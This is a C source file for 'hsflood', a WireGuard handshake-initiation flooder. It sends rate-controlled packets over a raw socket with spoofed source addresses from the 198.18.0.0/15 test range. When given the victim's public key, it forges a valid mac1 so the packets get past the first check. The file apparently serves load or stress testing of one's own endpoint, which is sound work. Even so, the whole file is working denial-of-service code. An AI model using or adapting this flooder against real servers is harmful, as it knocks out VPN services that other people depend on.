// Floods a WireGuard port with handshake initiations from false addresses: each comes from another
// address of 198.18.0.0/15 (RFC 2544: for tests). The victim needs a route there to answer.
//
//     hsflood [--key KEY] --rate N --seconds S ADDRESS:PORT
//
//     --key      the victim's public key, 44 characters of base64: mac1 is right, so that what is
//                behind it is reached; without it mac1 is random
//     --rate     initiations per second
//
// Prints "sent N" at the end, for N initiations that the kernel took. Needs CAP_NET_RAW.
// Exit status: 0, or 2 for wrong arguments and other trouble.
#define _GNU_SOURCE 1
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "common.h"

enum {
    KEY_SIZE = 32,
    KEY_TEXT = 44,
    INITIATION_SIZE = 148,
    MAC1_AT = INITIATION_SIZE - 2 * 16,
    TICK_MS = 2,
};

#define SOURCES     UINT32_C(0xc6120000) // 198.18.0.0
#define SOURCE_BITS UINT32_C(0x1ffff)

struct packet {
    struct iphdr ip;
    struct udphdr udp;
    unsigned char message[INITIATION_SIZE];
};
_Static_assert(sizeof(struct packet) == 28 + INITIATION_SIZE, "padding");

static EVP_MAC_CTX *mac; // NULL: mac1 is to be wrong
static unsigned char mac1_key[KEY_SIZE];

static _Noreturn void usage(void)
{
    fputs("usage: hsflood [--key KEY] --rate N --seconds S ADDRESS:PORT\n", stderr);
    exit(TROUBLE);
}

// The key of mac1 is a hash of a label and the public key ("WireGuard", section 5.4.4).
static void prepare_mac(const char *text)
{
    unsigned char input[8 + KEY_SIZE + 1] = "mac1----", decoded[KEY_TEXT / 4 * 3];
    size_t size = 16;
    OSSL_PARAM parameters[] = {OSSL_PARAM_construct_size_t(OSSL_MAC_PARAM_SIZE, &size),
                               OSSL_PARAM_construct_end()};
    EVP_MAC *algorithm = EVP_MAC_fetch(NULL, "BLAKE2SMAC", NULL);

    if (strlen(text) != KEY_TEXT ||
        EVP_DecodeBlock(decoded, (const unsigned char *)text, KEY_TEXT) != sizeof(decoded))
        usage();
    memcpy(input + 8, decoded, KEY_SIZE);
    mac = EVP_MAC_CTX_new(algorithm);
    if (mac == NULL || !EVP_MAC_CTX_set_params(mac, parameters) ||
        !EVP_Digest(input, 8 + KEY_SIZE, mac1_key, NULL, EVP_blake2s256(), NULL))
        fail(TROUBLE, "BLAKE2s");
}

static void random_fill(void *ret_bytes, size_t size)
{
    if (getrandom(ret_bytes, size, 0) != (ssize_t)size)
        fail(TROUBLE, "getrandom");
}

static void make_message(unsigned char message[static INITIATION_SIZE])
{
    static const unsigned char type[4] = {1};
    size_t size;

    random_fill(message, INITIATION_SIZE);
    memcpy(message, type, sizeof(type));
    memset(message + INITIATION_SIZE - 16, 0, 16);
    if (mac != NULL && (!EVP_MAC_init(mac, mac1_key, sizeof(mac1_key), NULL) ||
                        !EVP_MAC_update(mac, message, MAC1_AT) ||
                        !EVP_MAC_final(mac, message + MAC1_AT, &size, 16)))
        fail(TROUBLE, "BLAKE2s");
}

// In UDP the checksum 0 means "none". The kernel fills in the checksum of IP (raw(7)).
static void make_packet(struct packet *ret, const struct sockaddr_in *to)
{
    uint32_t random;

    random_fill(&random, sizeof(random));
    *ret = (struct packet){
        .ip = {.version = 4,
               .ihl = 5,
               .tot_len = htons(sizeof(*ret)),
               .ttl = 64,
               .protocol = IPPROTO_UDP,
               .saddr = htonl(SOURCES | (random & SOURCE_BITS)),
               .daddr = to->sin_addr.s_addr},
        .udp = {.source = htons((uint16_t)(1024 + (random >> 17))),
                .dest = to->sin_port,
                .len = htons(sizeof(struct udphdr) + INITIATION_SIZE)},
    };
    make_message(ret->message);
}

// Sends in ticks. Each tick makes up for datagrams that are overdue.
static long flood(const struct sockaddr_in *to, long rate, long seconds)
{
    static const struct timespec tick = {.tv_nsec = TICK_MS * 1000000L};
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    int64_t start = now_ms(), now;
    long made = 0, sent = 0;

    if (fd < 0)
        fail(TROUBLE, "socket");
    while ((now = now_ms()) - start < seconds * 1000) {
        for (long due = (now - start) * rate / 1000; made < due; made++) {
            struct packet packet;

            make_packet(&packet, to);
            sent += sendto(fd, &packet, sizeof(packet), 0, (const void *)to, sizeof(*to)) ==
                    sizeof(packet);
        }
        nanosleep(&tick, NULL);
    }
    return sent;
}

static struct sockaddr_in parse_address(char *text)
{
    struct sockaddr_in address = {.sin_family = AF_INET};
    char *colon = strchr(text, ':');
    long port;

    if (colon == NULL || !parse_number(colon + 1, 1, 65535, &port))
        usage();
    *colon = '\0';
    if (inet_pton(AF_INET, text, &address.sin_addr) != 1)
        usage();
    address.sin_port = htons((uint16_t)port);
    return address;
}

int main(int argc, char **argv)
{
    static const struct option options[] = {
        {"key", required_argument, NULL, 'k'},
        {"rate", required_argument, NULL, 'r'},
        {"seconds", required_argument, NULL, 's'},
        {NULL, 0, NULL, 0},
    };
    long rate = 0, seconds = 0;
    struct sockaddr_in to;
    int option;

    while ((option = getopt_long(argc, argv, "", options, NULL)) != -1) {
        if (option == 'k')
            prepare_mac(optarg);
        else if (option == '?' || !parse_number(optarg, 1, option == 'r' ? 1000000 : 600,
                                                option == 'r' ? &rate : &seconds))
            usage();
    }
    if (argc - optind != 1 || rate == 0 || seconds == 0)
        usage();
    to = parse_address(argv[optind]);
    printf("sent %ld\n", flood(&to, rate, seconds));
    return 0;
}
